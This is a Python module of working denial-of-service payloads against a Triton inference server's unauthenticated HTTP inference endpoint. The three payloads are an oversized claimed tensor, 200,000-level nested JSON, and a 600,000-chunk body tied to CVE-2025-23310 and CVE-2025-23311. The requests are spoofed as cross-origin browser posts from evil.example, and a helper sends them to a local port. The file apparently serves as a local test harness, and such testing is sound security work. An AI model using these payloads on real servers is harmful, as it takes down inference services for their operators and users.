"""What kills a Triton server over HTTP without any sign-in, from another program or from a web page."""

from __future__ import annotations

import contextlib
import json
import socket
from collections.abc import Callable, Iterator

PATH = "/v2/models/infmap/infer"
# What a browser sends for a page of another site: no question is asked first for text/plain.
_HEAD = (
    f"POST {PATH} HTTP/1.1\r\nHost: evil.example\r\nOrigin: https://evil.example\r\n"
    "Content-Type: text/plain\r\nConnection: close\r\n"
)


def claimed_size() -> Iterator[bytes]:
    """Claim 50 GB of pixels and send none."""
    tensor = {"name": "IMAGE", "datatype": "UINT8", "shape": [1_000_000, 224, 224], "data": []}
    yield _with_length(json.dumps({"inputs": [tensor]}).encode())


def nested() -> Iterator[bytes]:
    """JSON of 200,000 levels."""
    yield _with_length(b'{"inputs":' + b"[" * 200_000 + b"]" * 200_000 + b"}")


def many_chunks() -> Iterator[bytes]:
    """A body in 600,000 chunks (CVE-2025-23310, CVE-2025-23311)."""
    yield f"{_HEAD}Transfer-Encoding: chunked\r\n\r\n".encode()
    for _ in range(60):
        yield b"1\r\n \r\n" * 10_000
    yield b"0\r\n\r\n"


ATTACKS: dict[str, Callable[[], Iterator[bytes]]] = {
    "claimed size": claimed_size,
    "nested JSON": nested,
    "many chunks": many_chunks,
}


def attack(port: int, parts: Iterator[bytes], *, timeout_s: float = 30) -> bytes | None:
    """Send a request's bytes to a port of this machine.

    Returns
    -------
    bytes or None
        The beginning of what was answered; ``None`` when nobody listens.
    """
    try:
        connection = socket.create_connection(("127.0.0.1", port), timeout=timeout_s)
    except ConnectionRefusedError:
        return None
    with connection:
        # A server that dies, or refuses, closes while we send.
        with contextlib.suppress(OSError):
            for part in parts:
                connection.sendall(part)
        with contextlib.suppress(OSError):
            return connection.recv(4096)
    return b""


def _with_length(body: bytes) -> bytes:
    return f"{_HEAD}Content-Length: {len(body)}\r\n\r\n".encode() + body
